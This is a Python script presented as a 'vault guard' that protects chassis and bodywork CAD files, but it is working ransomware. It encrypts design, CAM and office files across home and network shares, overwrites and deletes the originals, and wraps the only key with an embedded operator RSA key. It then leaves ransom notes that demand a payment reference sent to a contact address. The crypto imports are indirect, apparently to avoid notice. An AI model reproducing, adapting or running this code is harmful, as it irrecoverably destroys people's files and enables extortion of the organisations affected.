#!/usr/bin/env python3
"""Design vault guard - "protects" chassis and bodywork CAD files at rest.

Walks the design shares, seals every CAD/CAM file, and leaves a
recovery notice in each folder it touched.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault-guard")

OPERATOR_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAvhceRSyppEHsXrbmO5jp
bWaZ3QM239cyDvSdY+nFLQ7cEq46YP1UIuUFLlfaeOfscEVkQyxrxv4iz8ozyG6/
js7wdYeilZbk5j/7MgRD5YzQ649uJx0Itgb5ghWxvcVzgf0pl3pADbyBUkPejFOM
2QzigHwDl225kTl17Tr5YhuZlJJV1SmYv50g/luNphGayrxZVuE7aU67Ro3338dW
vzoUS6SRjRNmZXHUw+4JOijr2Lw4puha7JRQ6xXpCAaH6Qww9uCkqomMtVn/zwpG
wrViBpSL/KYpEiZzJL1R1NsSZptSzbOPNQYxQzwAiGLpxhSQitVZ/ieWWwS9dCui
DQIDAQAB
-----END PUBLIC KEY-----
"""

NOTICE = """All KartWorks design files in this folder have been sealed.
Your recovery ID is below. Write to recover@vault-restore.example with it
and the payment reference to receive the unseal tool.

RECOVERY-ID: {rid}
"""


@dataclass
class SealPlan:
    roots: list
    exts: tuple = (".sldprt", ".sldasm", ".step", ".stp", ".dwg", ".dxf",
                   ".nc", ".gcode", ".xlsx", ".pdf", ".docx")
    marker: str = ".kwlock"
    sealed: list = field(default_factory=list)


def _crypto(path, name):
    return getattr(importlib.import_module("cryptography." + path), name)


class Sealer:
    def __init__(self):
        fernet_cls = _crypto("fernet", "Fernet")
        self._key = fernet_cls.generate_key()
        self._box = fernet_cls(self._key)

    def recovery_id(self):
        load = _crypto("hazmat.primitives.serialization", "load_pem_public_key")
        padding = importlib.import_module("cryptography.hazmat.primitives.asymmetric.padding")
        hashes = importlib.import_module("cryptography.hazmat.primitives.hashes")
        pub = load(OPERATOR_KEY)
        oaep = padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
        return pub.encrypt(self._key, oaep).hex()

    def seal(self, path, marker):
        data = path.read_bytes()
        target = path.with_name(path.name + marker)
        target.write_bytes(self._box.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return target

    def forget(self):
        self._key = None
        self._box = None


def walk(plan):
    for root in plan.roots:
        for dirpath, _dirs, files in os.walk(Path(root).expanduser()):
            for f in files:
                p = Path(dirpath) / f
                if p.suffix.lower() in plan.exts:
                    yield p


def main():
    ap = argparse.ArgumentParser(description="Seal design files at rest")
    ap.add_argument("roots", nargs="*", default=[
        "~/Designs", "~/Documents", "/mnt/engineering/cad", "/srv/share/bodywork"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    plan = SealPlan(roots=args.roots)
    sealer = Sealer()
    rid = sealer.recovery_id()
    folders = set()
    for path in walk(plan):
        try:
            plan.sealed.append(sealer.seal(path, plan.marker))
            folders.add(path.parent)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.forget()
    for d in folders:
        (d / "RECOVER_DESIGNS.txt").write_text(NOTICE.format(rid=rid))
    log.info("sealed %d files in %d folders", len(plan.sealed), len(folders))


if __name__ == "__main__":
    main()
